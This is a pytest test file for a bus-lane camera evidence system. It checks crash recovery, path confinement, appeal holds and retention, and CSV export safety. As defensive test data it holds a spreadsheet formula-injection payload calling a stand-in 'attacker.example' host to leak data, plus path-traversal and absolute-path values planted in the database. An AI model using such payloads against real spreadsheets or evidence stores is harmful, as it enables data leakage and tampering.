"""Evidence is never silently missing, stored paths stay inside their root, appeals hold evidence,
and CSV exports are safe to open in a spreadsheet.

All on private copies of the session's real batch (the `night` fixture: real footage, real DuckDB,
evidence written by the real writer); the kill is a real SIGKILL of a process writing evidence.
"""

from __future__ import annotations

import csv
import getpass
import io
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import zipfile
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import pytest

from evidence.manifest import FileRecord, hash_file
from evidence.pack.builder import PackError, _zip, build_pack
from evidence.retention import RetentionRules
from pipeline.store import Store, now
from pipeline.users import UsersFile
from review_app.config import DB_ENV, USERS_ENV
from review_app.services import appeals, decisions
from review_app.services.cases import load_case
from review_app.services.gaps import gaps_export
from review_app.services.users import User
from tests.conftest import BUS_LANE_SITE, buslane
from tests.test_audit_chain import rechain, sql
from tests.test_pack import copy_night
from tests.test_review_app import click, goto, signed_in, users_file  # noqa: F401 (users_file is a fixture)
from whitelist.gaps import flag_gap

FORMULA = '=HYPERLINK("http://attacker.example/?leak","Click me")'
SAM, JO = User("sam", "supervisor"), User("jo", "officer")


def folder_of(store: Store, root: Path, case_id: str) -> Path:
    return root / store.query("SELECT folder FROM evidence_cases WHERE contravention_id = ?", [case_id])[0]["folder"]


def validate(store: Store, *case_ids: str) -> None:
    """Validated by an officer, as the history records it (these cases' plates are unreadable: one is
    keyed in for each, a plate of its own: one plate twice on a camera needs the first case confirmed)."""
    for case_id, plate in zip(case_ids, ("OY09 FEU", "MT56 BJX", "LK17 ABC")[:len(case_ids)], strict=True):
        assert decisions.validate(store, case_id, JO, plate).ok


def run(*args: object, cwd: Path) -> subprocess.CompletedProcess:
    """`buslane ...` from another working directory, with no $BUSLANE_EVIDENCE to fall back on."""
    env = {k: v for k, v in os.environ.items() if k != "BUSLANE_EVIDENCE"}
    return subprocess.run([sys.executable, "-m", "pipeline", *map(str, args)], capture_output=True, text=True,
                          cwd=cwd, env=env)


# --- evidence is never silently missing ------------------------------------------------------------

KILL_WHILE_WRITING = textwrap.dedent("""
    import os, signal, sys
    from pathlib import Path
    import evidence.writer as writer
    from pipeline.site import load_site
    from pipeline.store import Store
    # SIGKILL at the last moment before the finished folder is renamed into place.
    writer._move_into_place = lambda work, final: os.kill(os.getpid(), signal.SIGKILL)
    db, case_id, site, root = sys.argv[1:]
    writer.write_case(Store(db), case_id, load_site(Path(site)), Path(site), Path(root))
""")


def test_a_kill_while_writing_evidence_fails_report_and_verify_and_the_rerun_finishes_it(night, tmp_path):
    store, root, (case_id, other) = copy_night(night, tmp_path / "copy")
    folder = folder_of(store, root, case_id)
    # The batch had recorded the case and was writing its evidence: no rows, no folder, nothing in the history yet.
    sql(store, "DELETE FROM evidence_files WHERE contravention_id = ?", "DELETE FROM evidence_cases WHERE contravention_id = ?",
        "DELETE FROM audit_log WHERE action = 'evidence.written' AND entity_id = ?", params=[case_id])
    rechain(store)
    shutil.rmtree(folder)
    killed = subprocess.run([sys.executable, "-c", KILL_WHILE_WRITING, store.path, case_id, BUS_LANE_SITE, root],
                            capture_output=True, text=True)
    assert killed.returncode == -9, killed.stderr
    assert (folder.parent / f".{case_id}.partial" / "review.mp4").is_file() and not folder.exists()

    report = buslane("report", "--db", store.path).stdout
    assert f"EVIDENCE MISSING: {case_id}" in report and other not in report
    assert "CHECK CAMERA" in report
    verify = buslane("evidence", "verify", "--all", "--db", store.path, check=False)
    assert verify.returncode == 1
    assert f"FAILED {case_id}: evidence missing" in verify.stdout and f"OK {other}" in verify.stdout
    assert "altered" not in verify.stdout

    # The night's batch run again over the same file: the file is skipped, the evidence finished.
    again = buslane("process", BUS_LANE_SITE, night["files"][0], "--db", store.path, "--no-progress")
    assert "1 already done" in again.stderr and "EVIDENCE NOT WRITTEN" not in again.stderr
    assert buslane("evidence", "verify", "--all", "--db", store.path).stdout.count("OK ") == 2
    assert "EVIDENCE MISSING" not in buslane("report", "--db", store.path).stdout
    assert (folder / "review.mp4").is_file()
    assert not list(root.rglob(".*")), "the killed run's .partial folder was cleared"


# --- stored paths stay inside their root -----------------------------------------------------------

@pytest.fixture
def tampered(night, tmp_path):
    """Two validated cases: one with an evidence_files row '../../../../outside.bin' (whose hash matches
    the file there), one whose evidence_cases.folder is an absolute path to a faithful copy elsewhere."""
    store, root, (climbs, absolute) = copy_night(night, tmp_path / "copy")
    outside = tmp_path / "copy" / "outside.bin"
    outside.write_bytes(b"not evidence")
    escape = "../../../../outside.bin"
    assert (folder_of(store, root, climbs) / escape).resolve() == outside.resolve()
    elsewhere = tmp_path / "elsewhere" / absolute
    shutil.copytree(folder_of(store, root, absolute), elsewhere)
    validate(store, climbs, absolute)
    with store.transaction() as con:
        con.execute("INSERT INTO evidence_files VALUES (?, ?, ?, ?, 'original', ?)",
                    [climbs, escape, *hash_file(outside), now()])
        con.execute("UPDATE evidence_cases SET folder = ? WHERE contravention_id = ?", [str(elsewhere), absolute])
    return {"store": store, "root": root, "climbs": climbs, "escape": escape, "absolute": absolute,
            "elsewhere": elsewhere, "tmp": tmp_path}


def test_a_stored_path_out_of_the_root_is_refused_by_verify_pack_retention_and_the_app(tampered):
    store, root, tmp = tampered["store"], tampered["root"], tampered["tmp"]
    climbs, absolute = tampered["climbs"], tampered["absolute"]
    verify = buslane("evidence", "verify", "--all", "--db", store.path, check=False)
    assert verify.returncode == 1
    assert f"FAILED {climbs}: case {climbs}: stored evidence file: {tampered['escape']!r} is not a plain" in verify.stdout
    assert (f"FAILED {absolute}: case {absolute}: the stored evidence folder {str(tampered['elsewhere'])!r} is not a "
            f"relative path inside the evidence root") in verify.stdout
    assert "BROKEN history" in buslane("audit", "verify", "--db", store.path, check=False).stdout  # the folder, by SQL

    for case_id, path in ((climbs, tampered["escape"]), (absolute, str(tampered["elsewhere"]))):
        out = tmp / "packs" / f"{case_id}.zip"
        pack = buslane("pack", case_id, "--db", store.path, "--out", out, check=False)
        assert pack.returncode == 1 and f"case {case_id}" in pack.stderr and repr(path) in pack.stderr
        assert not out.exists()
        evidence = load_case(store, case_id, root).evidence  # what the review app's case page shows
        assert evidence.review is None and evidence.overview is None and evidence.closeup is None
        assert repr(path) in evidence.problem
    assert store.query("SELECT count(*) AS n FROM packs")[0]["n"] == 0

    retention = buslane("retention", "apply", "--db", store.path, "--now", "2030-01-01T00:00:00+00:00",
                        "--exported-days", "0", check=False)
    assert retention.returncode == 2 and "nothing deleted" in retention.stderr
    assert (tampered["elsewhere"] / "review.mp4").is_file() and folder_of(store, root, climbs).is_dir()


def test_pack_zip_entries_are_plain_names(night, tmp_path):
    store, root, (case_id, _) = copy_night(night, tmp_path / "copy")
    validate(store, case_id)
    result = build_pack(store, case_id, root, "jo", tmp_path / "pack.zip")
    with zipfile.ZipFile(result.path) as zf:
        names = zf.namelist()
    assert len(names) == len(result.files)
    assert all(re.fullmatch(re.escape(case_id) + r"/[A-Za-z0-9._-]+", n) and ".." not in n for n in names), names
    with pytest.raises(PackError, match=r"'\.\./escape\.txt' is not a plain file name"):
        _zip(tmp_path, [FileRecord("../escape.txt", "0" * 64, 0, "readme")], tmp_path / "bad.zip", now())


def test_every_command_uses_the_recorded_root_from_any_directory(night, tmp_path):
    store, root, (case_id, other) = copy_night(night, tmp_path / "copy")
    # Another directory holds another run's evidence for the same case ids, one file of it different.
    elsewhere = tmp_path / "elsewhere"
    shutil.copytree(root, elsewhere / "var" / "evidence")
    review = folder_of(store, elsewhere / "var" / "evidence", case_id) / "review.mp4"
    review.write_bytes(review.read_bytes()[:-1] + b"\0")

    ok = run("evidence", "verify", "--all", "--db", store.path, cwd=elsewhere)
    assert ok.returncode == 0 and ok.stdout.count("OK ") == 2 and str(root) in ok.stdout
    given = run("evidence", "verify", "--all", "--db", store.path, "--root", "var/evidence", cwd=elsewhere)
    assert given.returncode == 2 and "altered" not in given.stdout + given.stderr
    assert f"different root: {store.path} keeps its evidence under {root}" in given.stderr
    assert "--move-root" in given.stderr
    process = run("process", BUS_LANE_SITE, night["files"][0], "--db", store.path, "--no-progress",
                  "--evidence", "var/evidence", cwd=elsewhere)
    assert process.returncode == 2 and "different root" in process.stderr
    pack = run("pack", case_id, "--db", store.path, "--out", "p.zip", "--root", "var/evidence", cwd=elsewhere)
    assert pack.returncode == 2 and "different root" in pack.stderr

    # Evidence that is not there is missing, not altered.
    shutil.rmtree(folder_of(store, root, case_id))
    gone = run("evidence", "verify", "--all", "--db", store.path, cwd=elsewhere)
    assert gone.returncode == 1 and "missing: review.mp4" in gone.stdout and "altered" not in gone.stdout

    # A real move is recorded explicitly, and audited.
    moved = run("evidence", "root", "--db", store.path, "--move-root", "var/evidence", cwd=elsewhere)
    assert moved.returncode == 0 and "2 of 2 case folders are there" in moved.stdout
    assert run("evidence", "root", "--db", store.path, cwd=tmp_path).stdout.strip() == str(elsewhere / "var" / "evidence")
    details = store.query("SELECT details FROM audit_log WHERE action = 'evidence.root_moved' ORDER BY id")
    assert json.loads(details[-1]["details"]) == {"old": str(root), "new": str(elsewhere / "var" / "evidence")}


# --- appeal hold and retention ---------------------------------------------------------------------

@dataclass(frozen=True)
class Exported:
    db: Path
    root: Path
    held: str      # validated, held for appeal from the command line
    packed: str    # validated, its evidence pack exported just now


@pytest.fixture(scope="module")
def exported(night, tmp_path_factory) -> Exported:
    base = tmp_path_factory.mktemp("appeals")
    store, root, (held, packed) = copy_night(night, base / "copy")
    validate(store, held, packed)
    build_pack(store, packed, root, "jo", base / "pack.zip")
    return Exported(store.path, root, held, packed)


def test_retention_keeps_held_and_recently_exported_cases_and_refuses_negative_days(exported, tmp_path,
                                                                                    monkeypatch):
    db, root = tmp_path / "cases.duckdb", tmp_path / "root"
    shutil.copy(exported.db, db)
    shutil.copytree(exported.root, root)
    buslane("evidence", "root", "--db", db, "--move-root", root)
    store = Store(db)
    officer = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "appeal lodged", check=False)
    assert officer.returncode == 2 and "only a supervisor can do this" in officer.stderr  # the session's CLI officer
    supervisors = tmp_path / "users.yaml"
    UsersFile(supervisors).add("sam", "supervisor", "not used on the command line", os_user=getpass.getuser())
    monkeypatch.setenv(USERS_ENV, str(supervisors))  # the OS user acts as sam
    hold = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "TPT appeal 2160012345")
    assert f"case {exported.held} held for appeal by sam" in hold.stdout
    twice = buslane("appeal", "hold", exported.held, "--db", db, "--reason", "again", check=False)
    assert twice.returncode == 2 and "already held for appeal" in twice.stderr

    soon = (now() + timedelta(days=30)).isoformat()  # both cases are ten years old: past every rule
    kept = buslane("retention", "apply", "--db", db, "--now", soon)
    assert kept.stdout == "" and folder_of(store, root, exported.held).is_dir()
    assert folder_of(store, root, exported.packed).is_dir()

    buslane("appeal", "release", exported.held, "--db", db, "--reason", "appeal withdrawn")
    released = buslane("retention", "apply", "--db", db, "--now", soon)
    assert f"deleted {exported.held}" in released.stdout and exported.packed not in released.stdout
    a_year_on = (now() + timedelta(days=366)).isoformat()
    assert f"deleted {exported.packed}" in buslane("retention", "apply", "--db", db, "--now", a_year_on).stdout
    actions = [(r["action"], r["entity_id"]) for r in store.query(
        "SELECT action, entity_id FROM audit_log WHERE action LIKE 'appeal.%' ORDER BY id")]
    assert actions == [("appeal.held", exported.held), ("appeal.released", exported.held)]

    for option in ("--validated-days", "--rejected-days", "--exempt-days", "--exported-days"):
        refused = buslane("retention", "apply", "--db", db, option, "-1", check=False)
        said = " ".join(re.sub("[│╭╮╰╯─]", " ", refused.stderr).split())  # typer draws a box around it
        assert refused.returncode == 2 and f"Invalid value for '{option}': Input should be greater than or equal to 0" in said
    with pytest.raises(ValueError, match="validated_days is -1: day counts must not be negative"):
        RetentionRules(validated_days=-1)


def test_only_a_supervisor_holds_a_case_from_the_case_page(exported, tmp_path, users_file, monkeypatch):  # noqa: F811
    db = tmp_path / "cases.duckdb"
    shutil.copy(exported.db, db)
    store = Store(db)
    refused = appeals.hold(store, exported.packed, JO, "appeal lodged")
    assert not refused.ok and "only a supervisor" in refused.message
    monkeypatch.setenv(DB_ENV, str(db))
    monkeypatch.setenv(USERS_ENV, str(users_file))

    jo = signed_in("jo")
    jo.session_state["case_id"] = exported.packed
    goto(goto(jo, "Queue"), "Case")
    assert not [b for b in jo.button if "appeal" in b.label.lower()]

    sam = signed_in("sam")
    sam.session_state["case_id"] = exported.packed
    goto(goto(sam, "Queue"), "Case")
    sam.text_input(key=f"appeal-reason-{exported.packed}").input("TPT appeal 2160012345")
    click(sam, "Hold for appeal")
    assert "held for appeal" in sam.success[0].value
    assert any("Held for appeal by sam" in i.value for i in sam.info)
    (row,) = store.query("SELECT actor, details FROM audit_log WHERE action = 'appeal.held'")
    assert row["actor"] == "sam" and json.loads(row["details"])["reason"] == "TPT appeal 2160012345"
    assert appeals.release(store, exported.packed, SAM, "appeal allowed").ok
    assert not appeals.status(store, exported.packed).held


# --- safe CSV ----------------------------------------------------------------------------------------

def test_every_csv_export_neutralises_formula_cells(night, tmp_path):
    db = tmp_path / "cases.duckdb"
    shutil.copy(night["db"], db)
    store = Store(db)
    case_id = store.query("SELECT id FROM contraventions ORDER BY id")[0]["id"]
    with store.transaction() as con:
        con.execute("UPDATE contraventions SET plate = ? WHERE id = ?", [FORMULA, case_id])
        flag_gap(con, "BX12BUS", "bus", FORMULA, case_id, actor="jo")
        flag_gap(con, "BX13BUS", "bus", "-2 buses on route 42", case_id, actor="jo")

    rows = list(csv.DictReader(io.StringIO(buslane("contraventions", "--db", db, "--format", "csv").stdout)))
    (case,) = [r for r in rows if r["id"] == case_id]
    assert case["plate"] == "'" + FORMULA
    assert case["first_frame"].isdigit(), "numbers stay numbers"

    for text in (buslane("whitelist", "gaps", "--db", db, "--format", "csv").stdout, gaps_export(store).csv):
        notes = [r["note"] for r in csv.DictReader(io.StringIO(text))]
        assert notes == ["'" + FORMULA, "'-2 buses on route 42"]
